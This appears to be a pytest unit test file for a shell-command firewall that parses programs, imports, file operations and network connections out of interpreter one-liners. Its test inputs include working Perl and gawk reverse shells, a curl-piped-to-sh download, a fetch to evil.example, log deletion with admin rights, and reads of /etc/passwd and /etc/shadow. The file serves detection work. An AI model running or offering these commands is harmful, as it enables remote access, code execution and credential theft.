"""gateway/firewall/normalize/scripts.py: awk, Perl, Ruby, Node, PHP, Lua and AppleScript."""

from __future__ import annotations

import pytest

from tests.unit.firewall.shells import programs, shell

PERL_SHELL = (
    'perl -e \'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname'
    '("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");'
    'exec("/bin/sh -i");};\''
)
GAWK_SHELL = (
    'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { printf "> " |& s; '
    "s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c) } } }' /dev/null"
)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (PERL_SHELL, ["perl", "sh"]),
        ("perl -e 'system(\"curl http://x.io | sh\")'", ["perl", "curl", "sh"]),
        ("perl -ne 'print `id`' f", ["perl", "id"]),
        ("ruby -e 'exec \"/bin/bash\"'", ["ruby", "bash"]),
        ("ruby -e 'puts %x(id)'", ["ruby", "id"]),
        ("php -r 'shell_exec(\"wget x.io\");'", ["php", "wget"]),
        ('node -e \'require("child_process").execSync("id")\'', ["node", "id"]),
        ("node --eval=\"require('child_process').exec('whoami')\"", ["node", "whoami"]),
        ("lua -e 'os.execute(\"id\")'", ["lua", "id"]),
        ("awk 'BEGIN {system(\"/bin/sh -i\")}'", ["awk", "sh"]),
        ('awk \'{ "date" | getline d; print d | "sort -u" }\' f', ["awk", "date", "sort"]),
        ("gawk -F: '{print $1}' /etc/passwd", ["gawk"]),
        (
            "osascript -e 'do shell script \"rm /var/log/system.log\" with administrator'",
            ["osascript", "rm"],
        ),
        ('osascript -e \'do shell script "echo \\"x\\" > /tmp/y"\'', ["osascript", "echo"]),
        ("osascript -l JavaScript -e 'app.doShellScript(\"id\")'", ["osascript", "id"]),
        ('osascript -e \'tell application "Terminal" to do script "tor"\'', ["osascript", "tor"]),
        ("printf 'r !id\\nw /tmp/o\\n' | ed -s", ["printf", "ed", "id"]),
        # a mention is not a use: printing the word "system" runs nothing
        ("perl -e 'print \"system(1)\"'", ["perl"]),
        ("awk '{print \"system\"}' f", ["awk"]),
        ("awk '{ if ($1 || \"x\") print }' f", ["awk"]),
    ],
)
def test_shell_outs_are_parsed(command: str, expected: list[str]) -> None:
    assert programs(command) == expected


@pytest.mark.parametrize(
    ("command", "language", "imports"),
    [
        (PERL_SHELL, "perl", ["Socket"]),
        ("perl -MIO::Socket::INET -e 1", "perl", ["IO::Socket::INET"]),
        ("ruby -rsocket -e 'TCPSocket.new(\"h\", 1)'", "ruby", ["socket"]),
        ("node -e 'const net = require(\"net\")'", "node", ["net"]),
        ("node -r dotenv/config -e 1", "node", ["dotenv/config"]),
        ("php -r 'echo 1;'", "php", []),
        ("lua -lsocket -e 1", "lua", ["socket"]),
    ],
)
def test_inline_code_is_code(command: str, language: str, imports: list[str]) -> None:
    code = shell(command).code
    assert code is not None
    assert (code.language, code.imports) == (language, imports)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("perl exploit.pl -h 10.0.0.1", {("exploit.pl", "exec")}),
        ("ruby ./tool.rb", {("tool.rb", "exec")}),
        ("node server.js --port 1", {("server.js", "exec")}),
        ("perl -pi -e 's/a/b/' /etc/hosts", {("/etc/hosts", "write")}),
        ("perl -ne 'print if /x/' notes.txt", {("notes.txt", "read")}),
        ("osascript payload.scpt", {("payload.scpt", "exec")}),
        ("awk '{print}' data", {("data", "read")}),
        (
            'osascript -e \'tell application "Finder" to delete POSIX file "/var/log/x.log"\'',
            {("/var/log/x.log", "delete")},
        ),
        (
            "echo -e 'e /etc/passwd\\n,p\\ne /etc/shadow\\n,p' | ed",
            {("/etc/passwd", "read"), ("/etc/shadow", "read")},
        ),
        ("printf '$a\\nx\\n.\\nw\\n' | ed -s /etc/hosts", {("/etc/hosts", "write")}),
        ("ed notes.txt", {("notes.txt", "read")}),
    ],
)
def test_script_files(command: str, expected: set[tuple[str, str]]) -> None:
    assert {(p.path, p.op) for p in shell(command).paths} == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (GAWK_SHELL, [("tcp", "10.0.0.1", 4242)]),
        ("node -e 'fetch(\"https://evil.example/x\")'", [("https", "evil.example", None)]),
    ],
)
def test_connections_in_one_liners(command: str, expected: list[tuple[str, str, int]]) -> None:
    assert [(u.scheme, u.host, u.port) for u in shell(command).urls] == expected
